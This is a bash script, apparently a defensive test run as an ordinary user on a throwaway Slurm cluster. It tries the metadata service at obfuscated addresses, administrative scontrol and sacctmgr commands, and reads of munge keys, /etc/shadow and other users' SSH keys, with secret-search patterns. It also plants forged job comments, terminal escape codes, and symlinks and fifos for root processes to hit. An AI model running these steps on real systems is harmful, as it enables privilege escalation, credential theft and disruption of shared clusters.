#!/bin/bash
# What an ordinary user can try with a shell on a login node, or on a controller that lets users in, against the other
# nodes and users. It prints DONE at the end, and a line LEAK for each thing that should not have worked. Run it on a
# cluster that may be thrown away, as the user:
#   bash attack_by_login.sh CONTROLLER COMPUTE_NODE JOB_OF_ANOTHER_USER OTHER_USER
set -u
controller=$1 node=$2 job=$3 other=$4
host=$(hostname) me=$(id -un)

try() { # what must fail
  if timeout 60 "$@" >/dev/null 2>&1 </dev/null; then
    echo "LEAK: $*"
  fi
}
empty() { # NAME: standard input has no line
  if found=$(head -n 3) && [[ -n $found ]]; then echo "LEAK: $1: $found"; fi
}

# The node's role: the metadata service by each form of its address, and the program that would ask it.
for address in 169.254.169.254 2852039166 0xA9FEA9FE 0251.0376.0251.0376 ::ffff:169.254.169.254 fd00:ec2::254; do
  try bash -c "exec 3<>/dev/tcp/$address/80"
done
unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY
try aws sts get-caller-identity
try aws secretsmanager get-secret-value --secret-id slurm

# Controllers: a shell there, and what listens there.
ssh=(ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10)
try "${ssh[@]}" "$controller" true
for user in root ubuntu slurm "$other"; do
  try "${ssh[@]}" "$user@$controller" true
  try "${ssh[@]}" "$user@$node" true
done
for port in 3306 4317 9090 9100; do
  [[ $host == "$controller" ]] || try bash -c "exec 3<>/dev/tcp/$controller/$port"
done
try mysql --user=root --execute='select 1'
try mysql --user=slurm --execute='select 1'

# Slurm: nodes, partitions, other people's jobs, accounts, and programs that its daemons would start.
for state in DRAIN DOWN FAIL RESUME; do
  try scontrol update "NodeName=$node" "State=$state" "Reason=Action:Replace"
done
try scontrol update "NodeName=$node" "Comment=podwright:replace:$(date +%s):gpu_rows"
try scontrol update PartitionName=gpu State=DOWN
try scontrol create PartitionName=mine Nodes="$node"
try scontrol create reservation ReservationName=mine StartTime=now Duration=10 Nodes="$node" Users="$me"
try scontrol reboot ASAP "$node"
try scontrol reconfigure
try scontrol shutdown
try scontrol takeover
try scontrol setdebug debug5
try scontrol token username=root
try scontrol update "JobId=$job" TimeLimit=1
try scontrol hold "$job"
try scontrol requeue "$job"
try sh -c "scontrol write batch_script $job - | grep --quiet sleep"
try scancel --signal=USR1 "$job" --full
try srun --overlap --jobid="$job" true
try sattach "$job.0"
try sbatch --uid=0 --wrap true
try sbatch --reboot --wrap true
try sbatch --nodelist="$node" --reservation=mine --wrap true
try strigger --set --node --down --program=/tmp/program
try sacctmgr --immediate add user "$me" account=root adminlevel=Administrator
try sacctmgr --immediate modify user "$me" set adminlevel=Operator
try sacctmgr --immediate add account mine
try sacctmgr --immediate delete user "$other"
try munge --no-input --uid=0
find / -xdev \( -name munge.key -o -name 'jwt*.key' -o -name slurm.key -o -name slurmdbd.conf \) -readable 2>/dev/null |
  empty 'keys of Slurm'

# Texts of jobs that look like Slurm's own, for whoever reads its lists as root: fields, rows, marks, a terminal's codes.
for text in 'x UserId=root(0) ' $'x\nJobId=1 UserId=root(0) JobState=PENDING' '~|~1|0|PENDING|~' $'\e]52;c;eA==\a\xff' '-x'; do
  sbatch --quiet --hold --output=/dev/null --job-name="$text" --comment="$text" --wrap true
done
sbatch --quiet --hold --output=/dev/null --job-name="of-$other" --comment="podwright:of-$other" --wrap true
# What a login prints is not the number of the user's new job: here it is another's.
printf 'echo %s\n' "$job" >~/.profile

# Reports of a node in the name of a run, for which the controller reboots nodes: of now, the past and the future, about
# nodes of others, by single jobs and tasks of arrays.
now=$(date +%s)
for claim in "reboot:$now:run@$node" "replace:$now:gpu_rows@$node" "replace:$((now + 3600)):run@$node" \
  "reboot:$((now - 60)):run@$controller" $'reboot:1:x\npodwright:replace:'"$now:run@$node"; do
  sbatch --quiet --nodelist="$node" --output=/dev/null --chdir=/tmp --comment="podwright:$claim" --wrap 'sleep 900'
done
sbatch --quiet --array=1-3 --nodelist="$node" --output=/dev/null --chdir=/tmp \
  --comment="podwright:replace:$now:gpu_memory@$node" --wrap 'sleep 900'
# Beside the other's training on the node: ports at which the next jobs would meet, and the names of the other's caches,
# checkpoints in memory and locks.
uid=$(id -u "$other")
cat >"/fsx/runs/beside-$host.sh" <<SCRIPT
#!/bin/bash
mkdir -m 777 /tmp/podwright-$uid /tmp/podwright-$uid/inductor
mkfifo /tmp/podwright-$uid/inductor/code.py
ln -s /etc /dev/shm/podwright-$uid-run
ln -s /etc/shadow /run/lock/podwright-$uid
mkfifo /tmp/podwright-move.lock /var/tmp/podwright-$uid
exec python3 -c 'import socket, time
ports = [socket.create_server(("", 20_000 + number % 10_000)) for number in range($job, $job + 60)]
open("/tmp/beside", "w").close()
time.sleep(900)'
SCRIPT
sbatch --quiet --nodelist="$node" --output=/dev/null --chdir=/tmp "/fsx/runs/beside-$host.sh"
for _ in {1..60}; do
  squeue --noheader --states=RUNNING --user="$me" --format=%A | grep --quiet . && break
  sleep 1
done

# Secrets, and what root makes for others, on the shared file system.
for path in ssh/id_ed25519 secrets/ldap; do
  try cat "/fsx/podwright/$path"
done
try ls /fsx/podwright/secrets
for name in secrets ssh environments runs home; do
  try mv "/fsx/podwright/$name" "/fsx/podwright/$name.mine"
  try mkdir "/fsx/podwright/$name.mine"
done
for name in podwright runs home aws data scratch; do
  try mv "/fsx/$name" "/fsx/$name.mine"
done
try ln -s /etc /fsx/links
find /fsx/podwright -user root -writable ! -type l 2>/dev/null | empty 'writable below /fsx/podwright'
# A lock that a user can open a user can hold, and every boot would wait.
find /fsx /opt/podwright /run -name '*.lock' -user root -readable 2>/dev/null | empty 'locks that users may hold'

# Other users: their homes, the homes of those who come, their runs, their mail and cron.
for file in secret .ssh/id_ed25519 .ssh/authorized_keys; do
  try cat "/fsx/home/$other/$file"
done
try ls "/fsx/home/$other"
try touch "/fsx/home/$other/mine"
try mkdir /fsx/home/grace
try ln -s /etc /fsx/home/grace
try mv "/fsx/home/$other" /fsx/home/mine
try mv "/fsx/runs/of-$other" /fsx/runs/mine
try rm -r "/fsx/runs/of-$other"
try touch "/fsx/runs/of-$other/metrics.jsonl"
try crontab -u root -l
try sh -c ': >/etc/cron.d/mine'
try sh -c ': >>/var/spool/cron/crontabs/root'
try scrontab -u root -l

# Becoming somebody else, and what root runs and others may write.
try sudo --non-interactive true
try su root -c true
try su "$other" -c true
try pkexec true
try systemd-run --quiet true
try systemctl stop munge
try loginctl enable-linger "$other"
try busctl --quiet call org.freedesktop.login1 /org/freedesktop/login1 org.freedesktop.login1.Manager Reboot b false
cat >"/tmp/secrets-$me" <<'PATTERNS'
PRIVATE KEY-----
IDENTIFIED BY
StoragePass=
ldap_default_authtok =
aws_secret_access_key
SecretString
PATTERNS
grep --recursive --files-with-matches --exclude='*.py' --file="/tmp/secrets-$me" /opt/podwright /opt/slurm/etc /opt/ml \
  /etc/sssd /var/log/provision /var/spool /run 2>/dev/null | empty 'files with secrets'
processes=(/proc/[0-9]*/cmdline)
grep --text --files-with-matches --file="/tmp/secrets-$me" "${processes[@]}" 2>/dev/null | empty 'arguments with secrets'
find /opt/podwright /opt/slurm /opt/ml /etc /usr/local /usr/lib/systemd /var/log /var/spool/slurmctld /run/podwright* \
  -writable ! -type l 2>/dev/null | empty 'writable for users'
for file in node.json bootstrap.json .boot.lock metadata.nft lib/podwright_bootstrap/boot.py; do
  try sh -c ": >>/opt/podwright/$file"
done
try sh -c ': >>/etc/motd.d/podwright'
try nft flush ruleset
try cat /proc/1/environ

# Names in folders of everybody that a boot, a timer or a collector may meet.
runs=/fsx/runs/of-$me-$host
mkdir -p "$runs/pipe" "$runs/zero" "$runs/shadow" "$runs/closed"
for place in "$runs" /fsx/runs; do
  mkdir -p "$place/pipe-$host" "$place/zero-$host" "$place/shadow-$host"
  mkfifo "$place/pipe-$host/metrics.jsonl"
  ln -s /dev/zero "$place/zero-$host/metrics.jsonl"
  ln -s /etc/shadow "$place/shadow-$host/metrics.jsonl"
done
mkdir -m 0 "/fsx/runs/closed-$host"
ln -s /etc "/fsx/runs/etc-$host"
ln -s /etc/shadow "/fsx/runs/job-$host.log"
for name in podwright podwright-train on_create.sh provisioning_parameters.json users.json uv sudoers.candidate; do
  ln -s /etc/shadow "/tmp/$name" 2>/dev/null
done
mkfifo "/tmp/.podwright.lock" 2>/dev/null
flock --nonblock /tmp sleep 600 >/dev/null 2>&1 &

# The own home, last: no boot may follow its links, wait for its pipes or fail for what it lacks.
rm -rf ~/.ssh
mkdir ~/.ssh
mkfifo ~/.ssh/authorized_keys
ln -s /dev/zero ~/.ssh/id_ed25519.pub
ln -s "/fsx/home/$other/.ssh/id_ed25519" ~/.ssh/id_ed25519
if [[ $host == "$controller" ]]; then
  mv ~/.ssh ~/ssh-of-before
  ln -s "/fsx/home/$other/.ssh" ~/.ssh
fi
mkfifo ~/.profile.d ~/.hushlogin
chmod 777 ~
echo DONE
